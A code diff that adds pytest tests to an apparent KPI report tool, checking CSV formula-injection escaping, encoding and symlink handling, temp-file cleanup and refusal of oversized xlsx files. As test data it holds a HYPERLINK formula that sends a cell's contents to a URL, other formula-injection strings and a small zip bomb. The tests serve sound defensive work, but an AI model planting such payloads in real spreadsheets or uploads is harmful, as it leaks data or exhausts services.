@@ -173,3 +173,89 @@ def test_the_canonical_text_of_a_long_rule_reads_back(length: int) -> None:
         assert "canonical form" in str(error) or "longer than" in str(error)
     else:
         assert kpi.parse_rule(str(rule)) == rule
+
+
+def test_spreadsheet_formulas_in_a_csv_output_are_neutralised(tmp_path: Path) -> None:
+    from kpi.io.files import csv_safe, write_output
+
+    assert csv_safe(['=HYPERLINK("http://x"&A1,"y")', "=1+1", "-5%以下", "@SUM(A1)", "\tx", "-5", "80", 3]) == [
+        '\'=HYPERLINK("http://x"&A1,"y")',
+        "'=1+1",
+        "'-5%以下",
+        "'@SUM(A1)",
+        "'\tx",
+        "-5",
+        "80",
+        3,
+    ]
+    out = tmp_path / "out.csv"
+    write_output(out, ["编号", "评价标准"], [["=1+1", "-5%以下"]])
+    assert out.read_text(encoding="utf-8-sig").splitlines()[1] == "'=1+1,'-5%以下"
+
+
+def test_full_width_ids_match_their_table_rows(tmp_path: Path) -> None:
+    path = tmp_path / "r.csv"
+    path.write_text("编号,填报项1,实际值1\nＲ002,完成率,96%\n", encoding="utf-8")
+    assert "R002" in kpi.load_results(path).entries
+
+
+def test_excels_unicode_text_export_is_read(tmp_path: Path) -> None:
+    path = tmp_path / "r.txt"
+    path.write_bytes("编号\t填报项1\t实际值1\r\nR002\t完成率\t96%\r\n".encode("utf-16"))
+    results = kpi.load_results(path)
+    assert results.entries["R002"].filled == (("完成率", "96%"),) and "UTF-16" in results.notices[0]
+
+
+def test_an_output_path_that_is_a_symlink_is_written_through(tmp_path: Path) -> None:
+    from kpi.io.files import write_output
+
+    target = tmp_path / "real.csv"
+    target.write_text("old", encoding="utf-8")
+    link = tmp_path / "link.csv"
+    link.symlink_to(target)
+    write_output(link, ["a"], [["1"]])
+    assert link.is_symlink() and target.read_text(encoding="utf-8-sig").splitlines() == ["a", "1"]
+
+
+def test_a_temporary_file_left_by_a_killed_run_is_removed_by_the_next(tmp_path: Path) -> None:
+    import os
+    import time
+
+    from kpi.io.files import write_output
+
+    left = tmp_path / ".out.csv.abc123.kpi-partial"
+    left.write_bytes(b"x" * 100)
+    old = time.time() - 2 * 3600
+    os.utime(left, (old, old))
+    fresh = tmp_path / ".out.csv.def456.kpi-partial"
+    fresh.write_bytes(b"y")  # a run under way beside this one keeps its file
+    write_output(tmp_path / "out.csv", ["a"], [["1"]])
+    assert not left.exists() and fresh.exists()
+
+
+def test_an_xlsx_declaring_a_huge_dimension_is_read_by_its_cells(tmp_path: Path) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    import zipfile
+
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(["编号", "填报项1", "实际值1"])
+    sheet.append(["R002", "完成率", "96%"])
+    book.save(tmp_path / "ok.xlsx")
+    with zipfile.ZipFile(tmp_path / "ok.xlsx") as source, zipfile.ZipFile(tmp_path / "wide.xlsx", "w") as wide:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = data.replace(b'<dimension ref="A1:C2"/>', b'<dimension ref="A1:XFD1048576"/>')
+            wide.writestr(item, data)
+    results = kpi.load_results(tmp_path / "wide.xlsx")
+    assert results.entries["R002"].filled == (("完成率", "96%"),)
+
+
+def test_an_xlsx_that_unpacks_to_far_more_than_it_weighs_is_refused(tmp_path: Path) -> None:
+    import zipfile
+
+    with zipfile.ZipFile(tmp_path / "bomb.xlsx", "w", compression=zipfile.ZIP_DEFLATED) as bomb:
+        bomb.writestr("xl/sharedStrings.xml", b"<sst><si><t>" + b"a" * 20_000_000 + b"</t></si></sst>")
+    with pytest.raises(kpi.FileError, match=r"unpacks to [0-9]+ MB from far less"):
+        kpi.load_results(tmp_path / "bomb.xlsx")
